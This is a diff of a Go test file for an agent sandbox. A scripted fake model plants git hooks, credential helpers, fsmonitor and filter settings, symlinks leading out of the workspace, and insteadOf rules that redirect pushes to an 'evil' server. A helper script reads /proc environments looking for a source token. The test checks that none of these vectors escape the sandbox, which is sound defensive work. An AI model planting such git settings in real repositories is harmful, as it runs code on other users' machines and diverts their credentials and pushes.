@@ -16,24 +16,30 @@ import (
 	"github.com/sandlot-dev/sandlot/test/modelserver"
 )
 
-// chained is a program that says that it was run, as whom, and by whom: $0 is the
-// name of the way by which it was found.
+// chained is a program that says that it was run, by whom, and whether one of them
+// has the source's token, up to sandlot itself: $0 is the name of the way by which
+// it was found.
 const chained = `#!/bin/bash
-chain= pid=$$
+chain= pid=$$ ours= asked=("$@")
 while [ "$pid" -gt 1 ] && read -r stat <"/proc/$pid/stat"; do
   mapfile -d '' -t argv <"/proc/$pid/cmdline"
   chain="$chain <- ${argv[*]:0:3}"
+  case ${argv[0]##*/} in sandlot*) ours=1 ;; esac
+  mapfile -d '' -t env <"/proc/$pid/environ"
+  case $ours${env[*]} in *` + sourceToken + `*) [ "$ours" ] || chain="$chain (with the token)" ;; esac
   stat=${stat##*) }; set -- $stat; pid=$2
 done 2>/dev/null
 echo "$chain" >"%s/${0##*/}.$$"
+case ${0##*/} in pack) exec "${asked[@]}" ;; reference-transaction) exit ;; esac # without these nothing is pulled
 exit 1
 `
 
-// planting is what the agent does: all settings by which git starts a program,
-// links that lead out, and another home's configuration. $1 has the canaries,
-// $2 is a folder that isn't the agent's.
-const planting = `set -e
-git init -q . 2>/dev/null; git config user.name a; git config user.email a@b
+// planting is what the agent does: all settings by which git starts a program, or
+// reaches another server, links that lead out, and another home's configuration. $1
+// has the canaries, $2 is a folder that isn't the agent's, $3 is the server of the
+// source and $4 another one.
+const planting = `set -e; server=$3 evil=$4; env >"$HOME/env"
+git config user.name a; git config user.email a@b
 seq 9 >changed; echo a >fired; git add .; git commit -qm a
 mkdir h; for hook in pre-commit post-index-change post-checkout reference-transaction pre-push post-rewrite pre-auto-gc fsmonitor-watchman pre-applypatch; do
   ln -s "$1/hooksPath" h/$hook; ln -sf "$1/hook" .git/hooks/$hook; done
@@ -43,7 +49,8 @@ plant() { git config -f "$1" core.fsmonitor "$2/fsmonitor"; git config -f "$1" d
   git config -f "$1" core.sshCommand "$2/sshCommand"; git config -f "$1" credential.helper "!$2/credential"; git config -f "$1" alias.x "!$2/alias"
   git config -f "$1" core.pager "$2/pager"; git config -f "$1" core.editor "$2/editor"; git config -f "$1" core.askPass "$2/askPass"
   git config -f "$1" gpg.program "$2/gpg"; git config -f "$1" commit.gpgSign true; git config -f "$1" core.alternateRefsCommand "$2/refs"
-  git config -f "$1" uploadpack.packObjectsHook "$2/pack"; }
+  git config -f "$1" uploadpack.packObjectsHook "$2/pack"; git config -f "$1" http.sslVerify false
+  git config -f "$1" "url.$evil/.insteadOf" "$server/"; git config -f "$1" "url.$evil/.pushInsteadOf" "$server/"; }
 plant "$HOME/.gitconfig" "$1"
 echo '* filter=x diff=x merge=x' >.gitattributes; mkdir -p "$HOME/.config/git"; cp .gitattributes "$HOME/.config/git/attributes"
 plant evil "$1"; git config include.path ../evil; git config core.hooksPath "$PWD/h"; plant .git/config "$1"
@@ -52,11 +59,14 @@ ln -s "$2" out; ln -s "$2/file" link; ln -s / top; echo b >>changed; echo b >>fi
 
 // vectors are ways in which a program of the agent's could be started by whoever
 // uses its files, with how the agent changes what planting has left.
-var vectors = []struct{ name, more string }{
-	{"a repository", ""},
-	{"a file in place of .git", `mv .git "$2/../moved"; echo "gitdir: $2/../moved" >.git`},
-	{"a link in place of .git", `mv .git "$2/../moved"; ln -s "$2/../moved" .git`},
-	{"a repository in one", `mkdir -p sub; cp -r .git sub/.git; git -C sub config core.worktree ../..`},
+var vectors = []struct {
+	name, more string
+	own        bool // the workspace still has the repository that it was made of
+}{
+	{"a repository", "", true},
+	{"a file in place of .git", `mv .git "$2/../moved"; echo "gitdir: $2/../moved" >.git`, false},
+	{"a link in place of .git", `mv .git "$2/../moved"; ln -s "$2/../moved" .git`, false},
+	{"a repository in one", `mkdir -p sub; cp -r .git sub/.git; git -C sub config core.worktree ../..`, true},
 }
 
 // TestWhatClaudePlantsStartsNothing has the real CLI plant them and then uses the
@@ -81,6 +91,8 @@ func TestWhatClaudePlantsStartsNothing(t *testing.T) {
 			p.quiet("diff and ps")
 			p.copies()
 			p.quiet("cp")
+			p.exchanges(v.own)
+			p.tokenless()
 			p.run("destroy", "claude").want(t, 0)
 			p.quiet("destroy")
 			p.untouched()
@@ -90,6 +102,7 @@ func TestWhatClaudePlantsStartsNothing(t *testing.T) {
 
 type planted struct {
 	*claude
+	*sourced
 	marks, canaries, outside string
 	before                   map[string]string // what outside holds
 	seen                     map[string]bool   // marks that were told of
@@ -120,8 +133,10 @@ func newPlanted(t *testing.T, more string) *planted {
 			t.Fatal(err)
 		}
 	}
-	script := "set -- '" + p.canaries + "' '" + p.outside + "'\n" + planting + more
+	p.sourced = newSourced(t)
+	script := fmt.Sprintf("set -- '%s' '%s' '%s' '%s'\n", p.canaries, p.outside, p.server.URL, p.evil.URL) + planting + more
 	p.claude = newClaude(t, modelserver.Script{bash(script), modelserver.Say("planted"), bash("echo more >>new"), modelserver.Say("over")}).free()
+	p.use(p.claude)
 	for i, v := range p.env {
 		if strings.HasPrefix(v, "PATH=") {
 			p.env[i] = v + ":/usr/bin:/bin"
@@ -195,7 +210,7 @@ func (p *planted) provable() {
 	dir := filepath.Join(p.t.TempDir(), "copy")
 	p.tool("/", "", "sh", "-c", `cp -a "$1" "$2"; cp -a "$3" "$2-home"; cd "$2"; export HOME="$2-home" GIT_TERMINAL_PROMPT=0; unset GIT_CONFIG_GLOBAL GIT_CONFIG_NOSYSTEM
 		git="$(git -c core.fsmonitor= rev-parse --absolute-git-dir)"; cp -aL "$git" "$2-git"; rm -rf .git; mv "$2-git" .git
-		git status; git add -A; git x; git ls-remote ssh://nowhere/x; echo url=http://nowhere | git credential fill
+		git status; git add -A; git x; git ls-remote ssh://nowhere/x; git ls-remote origin; echo url=http://nowhere | git credential fill
 		for file in .git/config evil "$HOME/.gitconfig"; do git config -f $file --unset-all filter.x.process; done
 		git add -A; git diff --cached; git commit -m x; git -c core.hooksPath=/ commit -m x
 		: >.gitattributes; rm -rf "$HOME/.config"; git diff HEAD; exit 0`, "sh", p.root(), dir, p.agentHome())
@@ -204,6 +219,9 @@ func (p *planted) provable() {
 		if !slices.Contains(got, way) {
 			p.t.Errorf("nothing is proved of %s: a plain git ran only %q", way, got)
 		}
+	}
+	if len(p.evil.Requests()) == 0 {
+		p.t.Error("nothing is proved of insteadOf: a plain git didn't reach the other server")
 	}
 }
 
